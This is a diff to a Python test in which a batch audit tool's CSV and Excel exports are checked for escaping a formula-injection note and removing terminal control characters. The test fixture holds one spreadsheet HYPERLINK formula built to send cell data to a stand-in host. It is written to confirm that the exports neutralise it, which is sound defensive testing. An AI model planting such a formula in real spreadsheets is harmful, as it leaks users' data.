@@ -12,7 +12,7 @@ from conftest import copy_project
 from helpers import runs_in_a_spreadsheet
 from wardaudit.batch.local import run_batch
 from wardaudit.review.decisions import decide
-from wardaudit.run.portfolio.exports import FINDING_COLUMNS
+from wardaudit.run.portfolio.exports import SHEET_FINDINGS
 
 NOTE = '=HYPERLINK("http://x.invalid/?d="&A1,"xem")'
 
@@ -37,13 +37,14 @@ def test_control_characters_and_a_formula_note_through_the_batch(tmp_path, monke
     assert run_batch(wards=["phu-thinh"], jobs=1, quiet=True, paths=paths) == 0
     assert xlsx.read_bytes() != first  # rewritten with the decision
     assert paths.ward_letter("phu-thinh").exists()  # the letter quotes the line, without its controls
-    rows = list(csv.DictReader((paths.reports / "findings.csv").open(encoding="utf-8")))
+    assert (paths.reports / "findings.csv").read_bytes().startswith(b"\xef\xbb\xbf")  # the BOM Excel needs
+    rows = list(csv.DictReader((paths.reports / "findings.csv").open(encoding="utf-8-sig")))
     assert not [v for r in rows for v in r.values() if v and runs_in_a_spreadsheet(v)]
     row = next(r for r in rows if r["id"] == dated)
     assert row["review_note"] == "'" + NOTE and row["quote"].startswith("Phú Thịnh[2J,")
-    sheet = load_workbook(xlsx).worksheets[0]
-    cells = next(dict(zip(FINDING_COLUMNS, r, strict=True)) for r in sheet.iter_rows(min_row=2)
-                 if r[FINDING_COLUMNS.index("id")].value == dated)
+    sheet = load_workbook(xlsx)["Phát hiện"]
+    cells = next(dict(zip(SHEET_FINDINGS, r, strict=True)) for r in sheet.iter_rows(min_row=2)
+                 if r[SHEET_FINDINGS.index("id")].value == dated)
     assert cells["review_note"].value == NOTE and cells["review_note"].data_type == "s"
     assert "\x1b" not in cells["quote"].value and "\x07" not in cells["quote"].value
 
